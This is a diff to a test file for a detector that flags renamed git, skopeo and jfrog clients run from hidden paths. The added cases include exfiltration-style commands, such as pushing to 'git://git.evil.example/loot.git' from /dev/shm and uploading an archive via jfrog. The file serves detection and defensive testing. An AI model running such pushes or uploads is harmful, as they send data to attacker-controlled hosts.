@@ -105,6 +105,10 @@ describe('a forge or registry client copied under another name', () => {
       tool: 'skopeo',
       renamed: true,
     });
+    expect(recognize('/dev/shm/x', 'push git://git.evil.example/loot.git HEAD:main')).toEqual({
+      tool: 'git',
+      renamed: true,
+    });
     expect(recognize('/memfd:x (deleted)', 'rt upload /tmp/d.tgz generic-local/')).toEqual({
       tool: 'jfrog',
       renamed: true,
@@ -143,8 +147,10 @@ describe('a forge or registry client copied under another name', () => {
     // Build tools whose plain `build` or `deploy` pushes are never taken for copies: any program says that.
     expect(recognize('/tmp/go-build1/b001/exe/mage', 'build')).toBeNull();
     expect(recognize('/tmp/go-build1/b001/exe/ci', 'deploy staging')).toBeNull();
-    // A copied git is recognised through its helpers (send-pack, git-receive-pack), not by `push` alone.
+    // A copied git is recognised through its helpers (send-pack, git-receive-pack), not by `push` alone; only
+    // git:// names git's own protocol, which it speaks in its own process.
     expect(recognize('/tmp/.x/x', 'push origin main')).toBeNull();
+    expect(recognize('/tmp/go-build1/b001/exe/notify', 'push https://hooks.example.com/x')).toBeNull();
     expect(recognize('/dev/shm/.w/dbus-launch', 'push https://github.com/w0rk3r/drop.git HEAD:main')).toBeNull();
     expect(recognize('/dev/shm/.w/x', 'push git@github.com:w0rk3r/drop.git HEAD:main')).toBeNull();
   });
